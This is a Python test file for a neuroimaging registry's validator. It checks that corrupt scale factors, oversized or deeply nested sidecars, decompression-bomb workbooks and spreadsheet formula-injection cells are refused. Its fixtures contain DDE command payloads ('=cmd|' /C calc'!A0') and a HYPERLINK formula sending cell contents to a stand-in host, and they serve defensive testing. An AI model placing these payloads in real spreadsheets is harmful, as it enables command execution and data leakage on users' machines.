"""Fail closed on sheets, sidecars, scale factors and the tables against the folders (issue #14).

Each fault breaks a private copy of the trimmed clean dataset one way, runs ``atlas-registry validate
--format json`` in-process and asserts the exact rule code and exit status 1; ingest of a broken
copy is refused with registry rows and store files unchanged; the release gate refuses a formula
that reached the registry some other way.
"""

from __future__ import annotations

import io
import json
import math
import zipfile

import numpy as np
import pandas as pd
import pytest
from sqlmodel import Session, select
from test_ingest import snapshot
from test_validate_faults import codes, edit, ids_of, path, run, set_cell

from atlas_registry import db, gz, naming, niio
from atlas_registry import metadata as md
from atlas_registry.errors import AtlasError
from atlas_registry.ingest import IngestRefused, ingest_path
from atlas_registry.validate import formulas

# -- IMG003: scale factors --------------------------------------------------------------------------


def _set_scale(p, slope, inter) -> None:
    """Rewrite the stored scl_slope/scl_inter of a (gzip) NIfTI file, byte for byte elsewhere."""
    raw = bytearray(gz.decompress(p.read_bytes()))
    end = "<" if int.from_bytes(raw[:4], "little") == 348 else ">"
    raw[112:120] = np.array([slope, inter], dtype=end + "f4").tobytes()
    p.write_bytes(niio.gzip_bytes(bytes(raw)))


def t1_slope_nan(root, ids):
    _set_scale(path(root, ids.single), math.nan, 0.0)


def t1_slope_inf(root, ids):
    _set_scale(path(root, ids.single), math.inf, 0.0)


def t1_slope_zero(root, ids):
    _set_scale(path(root, ids.single), 0.0, 0.0)


def voi_slope_nan(root, ids):
    _set_scale(path(root, ids.single, "lesion", "raw_voi"), math.nan, 0.0)


def mask_inter_inf(root, ids):
    _set_scale(path(root, ids.single, "lesion", "smooth_nii"), 1.0, math.inf)


def mask_inter_nan(root, ids):
    _set_scale(path(root, ids.multi, "lesion", "smooth_voi", 1), 1.0, math.nan)


# -- META015: cells a spreadsheet could evaluate ------------------------------------------------------


def _notes(value):
    def breaker(root, ids):
        edit(root, lambda f: set_cell(f, "scans", ids.single, "Notes", value))

    return breaker


def tracer_formula(root, ids):
    edit(root, lambda f: set_cell(f, "lesions", ids.single, "Tracer", " -1+2", lesion=0))


def formula_column(root, ids):
    edit(root, lambda f: f["scans"].insert(2, "=A1", "x"))


def live_formula_cell(root, ids):
    """A real formula in the workbook (``<f>``), with a cached value that looks harmless; the CSVs say
    the same text so that only the formula rule can object."""
    from openpyxl import load_workbook

    p = root / naming.METADATA_WORKBOOK
    wb = load_workbook(p)
    ws = wb["scans"]
    header = [c.value for c in ws[1]]
    col = header.index("Notes") + 1
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, header.index(md.SCAN_ID) + 1).value == ids.single)
    ws.cell(row, col).value = '=HYPERLINK("http://x.invalid/?"&A2,"ok")'
    assert ws.cell(row, col).data_type == "f"
    wb.save(p)
    frames = md.read_metadata(root, source="csv")
    set_cell(frames, "scans", ids.single, "Notes", '=HYPERLINK("http://x.invalid/?"&A2,"ok")')
    (root / "ATLAS_scans.csv").write_bytes(md.csv_bytes(frames["scans"]))


def csv_only_formula(root, ids):
    """Only the CSVs (no workbook): the CSV reader is checked too."""
    (root / "ATLAS_metadata.xlsx").unlink()
    frames = md.read_metadata(root, source="csv")
    set_cell(frames, "scans", ids.single, "Notes", "@SUM(1+1)*cmd|' /C calc'!A0")
    (root / "ATLAS_scans.csv").write_bytes(md.csv_bytes(frames["scans"]))


def csv_control_character(root, ids):
    """A BEL in Notes (only CSVs can carry it: a workbook cannot hold it at all)."""
    (root / naming.METADATA_WORKBOOK).unlink()
    frames = md.read_metadata(root, source="csv")
    set_cell(frames, "scans", ids.single, "Notes", "ok\x07")
    (root / "ATLAS_scans.csv").write_bytes(md.csv_bytes(frames["scans"]))


FAULTS = {
    # name: (breaker, code)
    "t1-scl-slope-nan": (t1_slope_nan, "IMG003"),
    "t1-scl-slope-inf": (t1_slope_inf, "IMG003"),
    "t1-scl-slope-zero": (t1_slope_zero, "IMG003"),
    "voi-scl-slope-nan": (voi_slope_nan, "IMG003"),
    "mask-scl-inter-inf": (mask_inter_inf, "IMG003"),
    "voi-scl-inter-nan": (mask_inter_nan, "IMG003"),
    "notes-equals-dde": (_notes("=cmd|' /C calc'!A0"), "META015"),
    "notes-at": (_notes("@SUM(1+1)"), "META015"),
    "notes-minus": (_notes("-2+3+cmd|' /C calc'!A0"), "META015"),
    "notes-plus": (_notes("+1+1"), "META015"),
    "notes-tab": (_notes("\t=1+1"), "META015"),
    "notes-carriage-return": (_notes("\r=1+1"), "META015"),
    "notes-space-then-equals": (_notes("  =1+1"), "META015"),
    "notes-full-width-equals": (_notes("\uff1d1+1"), "META015"),
    "notes-full-width-at": (_notes("\u3000\uff20SUM(1)"), "META015"),
    "notes-dde-inside": (_notes("see cmd|' /C calc'!A0"), "META015"),
    "tracer-space-minus": (tracer_formula, "META015"),
    "column-name-formula": (formula_column, "META015"),
    "workbook-live-formula": (live_formula_cell, "META015"),
    "csv-only-formula": (csv_only_formula, "META015"),
    "csv-control-character": (csv_control_character, "META018"),
}


@pytest.mark.parametrize("name", sorted(FAULTS))
def test_fault(name, validate_native, capsys):
    breaker, code = FAULTS[name]
    breaker(validate_native, ids_of(validate_native))
    status, report = run(validate_native, capsys)
    assert code in codes(report), report["findings"]
    assert status == 1


def test_formula_message_names_the_cell_not_its_text(validate_native, capsys):
    ids = ids_of(validate_native)
    _notes("=cmd|' /C calc'!A0")(validate_native, ids)
    _, report = run(validate_native, capsys)
    found = [f for f in report["findings"] if f["code"] == "META015"]
    assert found and all("cmd|" not in f["message"] for f in found)
    assert any("sheet 'scans' row " in f["message"] and "column 'Notes'" in f["message"] for f in found)
    assert {f["path"] for f in found} == {"ATLAS_metadata.xlsx"}


def test_numbers_in_numeric_columns_are_not_formulas(validate_native, capsys):
    """``+1`` in a Fazekas grade is the number 1; the same text in Notes is a formula trigger."""
    ids = ids_of(validate_native)
    edit(validate_native, lambda f: set_cell(f, "scans", ids.single, "PVH", "+1"))
    status, report = run(validate_native, capsys)
    assert (status, report["summary"]["errors"]) == (0, 0), report["findings"]


def test_registration_failure_reason_formula(validate_standard, capsys):
    f = validate_standard / "registration_failures.csv"
    df = pd.read_csv(f, dtype=str)
    df.loc[0, "Reason"] = '=HYPERLINK("http://x.invalid")'
    f.write_bytes(md.csv_bytes(df))
    status, report = run(validate_standard, capsys)
    assert "META015" in codes(report) and status == 1


@pytest.mark.parametrize(
    "text, why",
    [
        ("=1", "starts with '='"),
        ("+1", "starts with '+'"),
        ("-1", "starts with '-'"),
        ("@A1", "starts with '@'"),
        ("\tx", "starts with a tab"),
        ("\rx", "starts with a carriage return"),
        ("\u00a0\u200b=1", "starts with '=' after leading white space"),
        ("\ufe661", "starts with '\ufe66'"),
        ("\u22121", "starts with '\u2212'"),
        ("\uff0d1", "starts with '\uff0d'"),
        ("x msexcel|'\\..\\cmd.exe'!''", "holds a DDE reference (application|topic!item)"),
    ],
)
def test_triggers(text, why):
    assert formulas.trigger(text) == why


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Motion artefact.",
        "Left basal ganglia",
        "T1|T2 bright!",
        "a-b",
        "MCA",
        "3",
        "e=mc2",
        "Timepoint 2 of subject s0004.",
    ],
)
def test_no_trigger(text):
    assert formulas.trigger(text) is None


def test_numeric_cells():
    assert formulas.cell_trigger("-3", numeric=True) is None
    assert formulas.cell_trigger("+1.5e-3", numeric=True) is None
    assert formulas.cell_trigger("-3", numeric=False) == "starts with '-'"
    assert formulas.cell_trigger("-1+cmd|' /C calc'!A0", numeric=True) == "starts with '-'"
    assert formulas.cell_trigger(-3, numeric=True) is None


# -- every exporter writes text as text -----------------------------------------------------------


def test_workbook_writes_text_as_inline_strings_never_formulas():
    values = ["=cmd|' /C calc'!A0", "@SUM(1)", "-1+2", "#N/A", "\uff1d1"]
    df = pd.DataFrame({"Notes": values, "PVH": [1, -2, 3, 4, 5]})
    data = md.workbook_bytes({"scans": df})
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    assert xml.count('t="inlineStr"') == 2 + len(values)  # two column names and every text cell
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    cells = [r[0] for r in wb["scans"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == values and {c.data_type for c in cells} == {"s"}


@pytest.mark.parametrize("notes, code", [("=cmd|' /C calc'!A0", "META015"), ("ok\x07", "META018")])
def test_gate_refuses_a_cell_that_reached_the_registry(export_ws_fresh, export_spec, tmp_path, notes, code):
    """A value that got into the registry some other way cannot leave as a formula (nor crash the
    workbook writer): the build stops with the rule code."""
    from test_export_deid import _tp, build

    from atlas_registry.models import ScanReport

    with Session(db.engine(export_ws_fresh)) as s:
        r = s.exec(select(ScanReport).where(ScanReport.timepoint_id == _tp("c0001s0002t01"))).one()
        r.notes = notes
        s.add(r)
        s.commit()
    with pytest.raises(AtlasError) as e:
        build(export_ws_fresh, export_spec, tmp_path / "out")
    assert (e.value.code, e.value.path) == (code, "icpsr/native/ATLAS_scans.csv")
    assert notes not in str(e.value)
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").rglob("ATLAS_metadata.xlsx"))


# -- ingest: refused, nothing written ------------------------------------------------------------------

INGEST_FAULTS = {
    "notes-equals-dde": (_notes("=cmd|' /C calc'!A0"), "META015"),
    "voi-scl-slope-nan": (voi_slope_nan, "IMG003"),
    "sidecar-nested-200000": (lambda r, i: sidecar_deep(r, i), "IMG012"),
    "lesion-rows-c0099": (lambda r, i: lesion_rows_without_scan(r, i), "META017"),
    "csv-1-gib": (lambda r, i: huge_csv(r, i), "META016"),
}


@pytest.mark.parametrize("name", sorted(INGEST_FAULTS))
def test_ingest_refuses_with_nothing_written(name, registry, validate_native, capsys):
    from atlas_registry.cli import main

    breaker, code = INGEST_FAULTS[name]
    ids = ids_of(validate_native)
    breaker(validate_native, ids)
    before = snapshot(registry)
    with pytest.raises(IngestRefused) as e:
        ingest_path(registry, validate_native, workers=1)
    assert code in e.value.report.codes("error")
    args = ["--home", str(registry.home)] + (["--db", registry.db] if registry.db else [])
    capsys.readouterr()
    assert main(args + ["ingest", str(validate_native), "--workers", "1"]) == 1
    assert code in capsys.readouterr().err
    assert snapshot(registry) == before


# -- sidecars: allow-list, size and depth ---------------------------------------------------------------


def _sidecar(root, ids, data: bytes) -> None:
    (path(root, ids.single).parent / f"{ids.single}.json").write_bytes(data)


def sidecar_deep(root, ids):
    _sidecar(root, ids, b"[" * 200_000 + b"]" * 200_000)


def sidecar_deep_object(root, ids):
    _sidecar(root, ids, b'{"MagneticFieldStrength": 3, "EchoTime": ' + b'{"a": ' * 9 + b"1" + b"}" * 10)


def sidecar_large(root, ids):
    _sidecar(root, ids, b'{"MagneticFieldStrength": 3, "SoftwareVersions": "' + b"x" * (300 * 1024) + b'"}')


def sidecar_unlisted_key(root, ids):
    _sidecar(root, ids, json.dumps({"MagneticFieldStrength": 3, "ReferringClinic": "north wing"}).encode())


def sidecar_nested_value(root, ids):
    _sidecar(root, ids, json.dumps({"MagneticFieldStrength": 3, "EchoTime": {"value": 2.9}}).encode())


def lesion_rows_without_scan(root, ids):
    """Lesion rows for c0099s0001t01: no scans row, no folder (it validated with 0 errors)."""

    def add(f):
        les = f["lesions"]
        row = les[les[md.SCAN_ID] == ids.single].iloc[[0]].copy()
        row[md.SCAN_ID] = "c0099s0001t01"
        f["lesions"] = pd.concat([les, row], ignore_index=True)

    edit(root, add)


def lesion_rows_scan_in_other_cohort_folder_missing(root, ids):
    """A lesion row for a scan of a cohort that has folders, but not this scan's."""

    def add(f):
        les = f["lesions"]
        row = les[les[md.SCAN_ID] == ids.single].iloc[[0]].copy()
        row[md.SCAN_ID] = ids.single[:5] + "s0999t01"
        f["lesions"] = pd.concat([les, row], ignore_index=True)

    edit(root, add)


def huge_csv(root, ids):
    """A 1 GiB ATLAS_scans.csv (sparse: no disk used) beside the workbook."""
    with open(root / "ATLAS_scans.csv", "r+b") as fh:
        fh.truncate(1 << 30)


def huge_csv_alone(root, ids):
    (root / naming.METADATA_WORKBOOK).unlink()
    huge_csv(root, ids)


def workbook_bomb(root, ids):
    """An xlsx whose scans sheet inflates to 300 MB (a few hundred kB on disk)."""
    p = root / naming.METADATA_WORKBOOK
    src = zipfile.ZipFile(p)
    parts = {i.filename: src.read(i.filename) for i in src.infolist()}
    sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
    body = parts[sheet]
    cut = body.index(b"</sheetData>")
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            if name != sheet:
                out.writestr(name, data)
        with out.open(sheet, "w") as w:
            w.write(body[:cut])
            chunk = b"<!-- " + b"x" * (1 << 20) + b" -->"
            for _ in range(300):
                w.write(chunk)
            w.write(body[cut:])


def too_many_rows(root, ids):
    def grow(f):
        sc = f["scanners"]
        f["scanners"] = pd.concat([sc] * (md.MAX_ROWS // len(sc) + 1), ignore_index=True)

    frames = md.read_metadata(root)
    grow(frames)
    (root / naming.METADATA_WORKBOOK).unlink()
    for name, df in frames.items():
        (root / naming.METADATA_CSV[name]).write_bytes(md.csv_bytes(df))


def csv_long_cell(root, ids):
    """A 200,000-character Notes cell (beyond the csv module's own field limit too)."""
    (root / naming.METADATA_WORKBOOK).unlink()
    frames = md.read_metadata(root, source="csv")
    set_cell(frames, "scans", ids.single, "Notes", "lesion " * 30_000)
    (root / "ATLAS_scans.csv").write_bytes(md.csv_bytes(frames["scans"]))


def csv_long_cell_40k(root, ids):
    (root / naming.METADATA_WORKBOOK).unlink()
    frames = md.read_metadata(root, source="csv")
    set_cell(frames, "scans", ids.single, "Notes", "x" * 40_000)
    (root / "ATLAS_scans.csv").write_bytes(md.csv_bytes(frames["scans"]))


FAULTS_2 = {
    "csv-cell-200000-characters": (csv_long_cell, "META016"),
    "csv-cell-40000-characters": (csv_long_cell_40k, "META016"),
    "sidecar-nested-200000": (sidecar_deep, "IMG012"),
    "sidecar-nested-object": (sidecar_deep_object, "IMG012"),
    "sidecar-300-kib": (sidecar_large, "IMG012"),
    "sidecar-unlisted-key": (sidecar_unlisted_key, "DEID009"),
    "sidecar-nested-value": (sidecar_nested_value, "IMG009"),
    "lesion-rows-c0099-no-scan": (lesion_rows_without_scan, "META017"),
    "lesion-rows-c0099-no-folder": (lesion_rows_without_scan, "META007"),
    "lesion-row-scan-without-folder": (lesion_rows_scan_in_other_cohort_folder_missing, "META007"),
    "csv-1-gib-beside-workbook": (huge_csv, "META016"),
    "csv-1-gib-alone": (huge_csv_alone, "META016"),
    "workbook-inflates-300-mb": (workbook_bomb, "META016"),
    "too-many-rows": (too_many_rows, "META016"),
}


@pytest.mark.parametrize("name", sorted(FAULTS_2))
def test_fault_limits_sidecars_tables(name, validate_native, capsys):
    breaker, code = FAULTS_2[name]
    breaker(validate_native, ids_of(validate_native))
    status, report = run(validate_native, capsys)
    assert code in codes(report), report["findings"]
    assert status == 1
    assert not any(f["code"] == "INTERNAL" for f in report["findings"])


def test_cohort_folder_checks_the_rows_of_its_cohort(validate_native, capsys):
    """Within a cohort folder, rows of other cohorts are not its business; rows of its own are."""
    ids = ids_of(validate_native)
    lesion_rows_without_scan(validate_native, ids)  # c0099: another cohort
    status, report = run(validate_native / "c0009", capsys)
    assert (status, report["summary"]["errors"]) == (0, 0), report["findings"]
    lesion_rows_scan_in_other_cohort_folder_missing(validate_native, ids)  # a c0009 scan with no folder
    status, report = run(validate_native / "c0009", capsys)
    assert {"META007", "META017"} <= codes(report) and status == 1


def test_sidecar_on_the_allow_list_validates(validate_native, capsys):
    ids = ids_of(validate_native)
    _sidecar(
        validate_native,
        ids,
        json.dumps(
            {
                "MagneticFieldStrength": 3,
                "Manufacturer": "Siemens",
                "EchoTime": 0.0029,
                "RepetitionTime": 2.3,
                "SliceTiming": [0.0, 0.5, 1.0],
                "ImageType": ["ORIGINAL", "PRIMARY"],
                "MRAcquisitionType": "3D",
            }
        ).encode(),
    )
    status, report = run(validate_native, capsys)
    assert (status, report["summary"]["errors"]) == (0, 0), report["findings"]


def test_sidecar_depth_is_measured_on_the_raw_bytes():
    from atlas_registry.validate import sidecars

    assert sidecars.depth(b'{"a": [1, [2]], "b": "[[[[[[[[[[ {{{{"}') == 3
    assert sidecars.depth(b'{"a": "\\"[[[["}') == 1
    assert sidecars.depth(b"[" * 200_000) == 200_000
    assert sidecars.depth(b"3") == 0


# -- revise: corrections are refused with the rule code, nothing written ------------------------------------


@pytest.mark.parametrize("backend", ["sqlite"])
def test_revise_refuses_formulas_and_control_characters(ingested_two):
    from test_revise import TWO_LESIONS

    from atlas_registry import revise

    ws = ingested_two
    before = snapshot(ws)
    attempts = [
        ("META015", lambda: revise.correct_metadata(ws, TWO_LESIONS, {"notes": "=cmd|' /C calc'!A0"}, reason="x")),
        ("META015", lambda: revise.correct_metadata(ws, TWO_LESIONS, {"tracer": " @A1"}, lesion=0, reason="x")),
        ("META018", lambda: revise.correct_metadata(ws, TWO_LESIONS, {"notes": "ok\x07"}, reason="x")),
    ]
    for code, attempt in attempts:
        with pytest.raises(AtlasError) as e:
            attempt()
        found = e.value.report.codes("error") if hasattr(e.value, "report") else {e.value.code}
        assert code in found, (code, str(e.value))  # a Tracer is also META003 (not T + two digits)
        assert snapshot(ws) == before, code
